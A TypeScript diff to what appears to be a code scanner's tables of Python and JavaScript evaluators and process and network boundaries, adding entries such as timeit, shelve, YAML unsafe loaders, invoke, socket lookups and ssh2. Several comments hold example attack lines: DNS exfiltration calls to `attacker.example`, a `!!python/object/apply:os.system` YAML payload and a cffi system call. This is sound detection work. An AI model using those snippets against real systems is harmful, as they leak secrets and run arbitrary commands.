@@ -67,7 +67,12 @@ export interface Evaluator {
   reads: "program" | "expression" | "body" | "worker" | "file" | "data" | "stream" | "inspector";
   strings?: boolean;
   passed?: boolean;
+  /** Python: the parameters holding code, by name in order, where more than the first does (`timeit.timeit(stmt, setup)`): each is read, by position or keyword. */
+  parameters?: readonly string[];
 }
+
+/** `timeit`'s statement and setup, each code (a lambda given instead is not). */
+const TIMED: Evaluator = { reads: "program", parameters: ["stmt", "setup"] };
 
 /** The language's own evaluators by target (as findings name them: `builtins.exec`, `eval`, `vm.runInThisContext`). */
 export const EVALUATORS: Readonly<Record<ScanLanguage, Readonly<Record<string, Evaluator>>>> = {
@@ -125,6 +130,30 @@ export const EVALUATORS: Readonly<Record<ScanLanguage, Readonly<Record<string, E
     "code.InteractiveConsole().interact": { reads: "stream" },
     "code.interact": { reads: "stream" },
     "code.compile_command": { reads: "program" },
+    // Debuggers, profilers and timers run a statement given as a string (`pdb.run(s)`, `cProfile.run(s)`, `timeit.timeit(s)`).
+    ...Object.fromEntries(
+      ["pdb", "pdb.Pdb()", "bdb.Bdb()", "profile", "profile.Profile()", "cProfile", "cProfile.Profile()", "trace.Trace()"].flatMap((runner) => [
+        [`${runner}.run`, { reads: "program" }],
+        [`${runner}.runctx`, { reads: "program" }],
+        ...(runner.includes("db") ? [[`${runner}.runeval`, { reads: "expression" }]] : []),
+      ]),
+    ),
+    "timeit.timeit": TIMED,
+    "timeit.repeat": TIMED,
+    "timeit.Timer": TIMED,
+    // Loading these calls whatever function the data names, as unpickling does: shelve's values are pickles, PyYAML's
+    // full loaders build any Python object (`!!python/object/apply:os.system`; handed to `yaml.load(s, Loader=…)`).
+    "shelve.open": { reads: "data" },
+    "shelve.Shelf": { reads: "data" },
+    "shelve.DbfilenameShelf": { reads: "data" },
+    "shelve.BsdDbShelf": { reads: "data" },
+    "jsonpickle.decode": { reads: "data" },
+    "pandas.read_pickle": { reads: "data" },
+    "yaml.unsafe_load": { reads: "data" },
+    "yaml.unsafe_load_all": { reads: "data" },
+    ...Object.fromEntries(["Loader", "UnsafeLoader", "CLoader", "CUnsafeLoader"].map((loader) => [`yaml.${loader}`, { reads: "data", passed: true }])),
+    // cffi's foreign function interface, as ctypes' (`cffi.FFI().dlopen(None).system(b"…")`).
+    "cffi.FFI().dlopen": { reads: "file" },
   },
   javascript: {
     eval: { reads: "expression", passed: true },
@@ -148,12 +177,18 @@ export const EVALUATORS: Readonly<Record<ScanLanguage, Readonly<Record<string, E
     // An inspector session evaluating code in this process (`session.post("Runtime.evaluate", { expression })`).
     "inspector.Session().post": { reads: "inspector" },
     "inspector/promises.Session().post": { reads: "inspector" },
+    // A CommonJS module compiled from a string (what require hooks do): an instance of the `module` builtin's class
+    // (its path as javascript.ts's loaders write it; also its `Module`), or its prototype's method (`Module.prototype._compile.call(m, code, f)`).
+    ...Object.fromEntries(["node:module", "node:module.Module"].flatMap((cls) => [`${cls}()._compile`, `${cls}.prototype._compile`]).map((target) => [target, { reads: "program" }])),
   },
 };
 
 /** The modules whose members EVALUATORS lists, by language; any other JavaScript target is a global's (`eval`, `process.dlopen`). */
 const EVALUATOR_MODULES: Readonly<Record<ScanLanguage, readonly string[]>> = {
-  python: ["builtins", "runpy", "importlib.machinery", "importlib._bootstrap_external", "importlib.util", "zipimport", "imp", "pickle", "dill", "ctypes", "code"],
+  python: [
+    ...["builtins", "runpy", "importlib.machinery", "importlib._bootstrap_external", "importlib.util", "zipimport", "imp", "pickle", "dill", "ctypes", "code"],
+    ...["pdb", "bdb", "profile", "cProfile", "trace", "timeit", "shelve", "jsonpickle", "pandas", "yaml", "cffi"],
+  ],
   javascript: ["vm", "worker_threads", "repl", "inspector", "inspector/promises"],
 };
 const moduleOf = (language: ScanLanguage, target: string) => EVALUATOR_MODULES[language].find((module) => target.startsWith(`${module}.`));
@@ -185,6 +220,8 @@ const socketUse = (cls: string) => call(...SOCKET_USE.flatMap((m) => [`${cls}${R
 const EVENT_LOOPS = ["get_running_loop", "get_event_loop", "new_event_loop"];
 /** requests' and httpx's module-level request functions. */
 const HTTP_FUNCTIONS = ["request", "get", "options", "head", "post", "put", "patch", "delete"];
+/** socket's name lookups, each a DNS query (`socket.gethostbyname(f"{secret}.attacker.example")`). */
+const SOCKET_LOOKUPS = ["getaddrinfo", "getnameinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getfqdn"];
 /** An event loop's lookups (`loop.getaddrinfo(host, port)`). */
 const LOOP_LOOKUPS = ["getaddrinfo", "getnameinfo"];
 /** Node's dns lookups, by callback (`dns`) or promise (`dns/promises`, `dns.promises`), and a Resolver's. */
@@ -250,7 +287,16 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   py("subprocess", { [ANY]: "call", ...call("Popen", "call", "check_call", "check_output", "run", "getoutput", "getstatusoutput"), ...inert("PIPE", "STDOUT", "DEVNULL", "CompletedProcess", "list2cmdline", "STARTUPINFO", "_args_from_interpreter_flags", "_optim_args_from_interpreter_flags") }, "shell"),
   py("pty", call("spawn"), "shell"),
   // A browser started on a URL (as the npm package `open` is), directly or through a controller `webbrowser.get()` returns.
-  py("webbrowser", call("open", "open_new", "open_new_tab", ...["open", "open_new", "open_new_tab"].map((m) => `get${RETURNED}.${m}`)), "shell"),
+  py("webbrowser", call(...["", "get", "GenericBrowser", "BackgroundBrowser"].flatMap((made) => ["open", "open_new", "open_new_tab"].map((m) => (made ? `${made}${RETURNED}.${m}` : m)))), "shell"),
+  // A pipeline template run through `sh` when opened or copied; distutils' (and setuptools' copy's) spawn; the C helper under subprocess.
+  py("pipes", call(`Template${RETURNED}.open`, `Template${RETURNED}.copy`), "shell"),
+  py("distutils.spawn", call("spawn"), "shell"),
+  py("setuptools._distutils.spawn", call("spawn"), "shell"),
+  py("_posixsubprocess", call("fork_exec"), "shell"),
+  py("_winapi", call("CreateProcess"), "shell"),
+  // Invoke's and sh's commands: `invoke.run("ls")`, `sh.ls("-l")` (any member of sh is a program of that name).
+  py("invoke", call("run", "sudo", `Context${RETURNED}.run`, `Context${RETURNED}.sudo`), "shell"),
+  py("sh", { [ANY]: "call", ...inert("ErrorReturnCode", "SignalException", "CommandNotFound", "TimeoutException") }, "shell"),
   py("asyncio", call("create_subprocess_exec", "create_subprocess_shell", ...EVENT_LOOPS.flatMap((l) => LOOP_SUBPROCESS.map((m) => `${l}${RETURNED}.${m}`))), "shell"),
   py("asyncio", call("open_connection", "open_unix_connection", ...EVENT_LOOPS.flatMap((l) => LOOP_CONNECT.map((m) => `${l}${RETURNED}.${m}`))), "network"),
   py("pexpect", { ...call("spawn", "spawnu", "run", "runu", "popen_spawn.PopenSpawn"), ...client("pxssh.pxssh") }, "shell"),
@@ -281,7 +327,7 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
     },
     "network",
   ),
-  py("urllib.request", { ...call("urlopen", "urlretrieve"), ...client("build_opener"), ...inert("Request") }, "network"),
+  py("urllib.request", { ...call("urlopen", "urlretrieve"), ...client("build_opener", "OpenerDirector", "URLopener", "FancyURLopener"), ...inert("Request") }, "network"),
   py("http.client", client("HTTPConnection", "HTTPSConnection"), "network"),
   // An XML-RPC proxy: each method called on it is a request to the server (the construction is the finding).
   py("xmlrpc.client", client("ServerProxy"), "network"),
@@ -291,7 +337,11 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   // PySocks: a connection through a SOCKS proxy.
   py("socks", { ...call("create_connection"), ...inert("socksocket"), ...socketUse("socksocket") }, "network"),
   py("aiohttp", { ...client("ClientSession"), ...call("request") }, "network"),
-  py("socket", { ...call("create_connection"), ...inert("socket"), ...socketUse("socket") }, "network"),
+  py("socket", { ...call("create_connection", ...SOCKET_LOOKUPS), ...inert("socket"), ...socketUse("socket") }, "network"),
+  // A TLS connection made to read a server's certificate.
+  py("ssl", call("get_server_certificate"), "network"),
+  // Fabric: an SSH connection to a host, whose `run` starts a shell there.
+  py("fabric", client("Connection"), "network"),
   // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
   py("asyncio", call(...EVENT_LOOPS.flatMap((l) => LOOP_LOOKUPS.map((m) => `${l}${RETURNED}.${m}`))), "network"),
   // dnspython: queries through the system's resolvers, or sent to a server named (`dns.query.udp(q, "1.2.3.4")`).
@@ -388,7 +438,7 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   js("http", call("request", "get"), "network", "call"),
   js("https", call("request", "get"), "network", "call"),
   js("http2", call("connect"), "network", "call"),
-  js("net", call("connect", "createConnection"), "network", "call"),
+  js("net", call("connect", "createConnection", `Socket${RETURNED}.connect`, `Stream${RETURNED}.connect`), "network", "call"),
   js("tls", call("connect"), "network", "call"),
   // A DNS query leaves the sandbox (`dns.resolveTxt(\`${secret}.attacker.example\`)`); a Resolver made is one to query with.
   js("dns", { ...call(...DNS_QUERIES, ...DNS_QUERIES.map((m) => `promises.${m}`)), ...client("Resolver", "promises.Resolver") }, "network"),
@@ -401,6 +451,11 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   js("axios", { [ANY]: "call", ...client("create", "Axios"), ...inert("isAxiosError", "isCancel", "AxiosError", "CanceledError", "AxiosHeaders", "toFormData", "formToJSON", "mergeConfig", "getAdapter", "HttpStatusCode", "interceptors", "defaults", "CancelToken", "Cancel", "all", "spread") }, "network"),
   js("got", { [ANY]: "call", ...client("extend"), ...inert("RequestError", "HTTPError", "TimeoutError") }, "network"),
   js("node-fetch", { [ANY]: "call", ...inert("Headers", "Request", "Response", "FormData", "Blob", "File", "FetchError", "AbortError", "isRedirect") }, "network"),
+  // superagent, needle and ky: a request made by the module called, or by its method-named functions; ssh2's client connects.
+  js("superagent", { [ANY]: "call", ...client("agent") }, "network"),
+  js("needle", { [ANY]: "call", ...inert("defaults") }, "network"),
+  js("ky", { [ANY]: "call", ...client("create", "extend"), ...inert("HTTPError", "TimeoutError", "stop") }, "network"),
+  js("ssh2", client("Client"), "network", "new"),
   js("undici", { ...call("request", "fetch", "stream", "connect"), ...client("Client", "Pool", "Agent") }, "network"),
   js("ws", call(DEFAULT, "WebSocket"), "network", "new"),
   js("eventsource", call(DEFAULT, "EventSource"), "network", "new"),
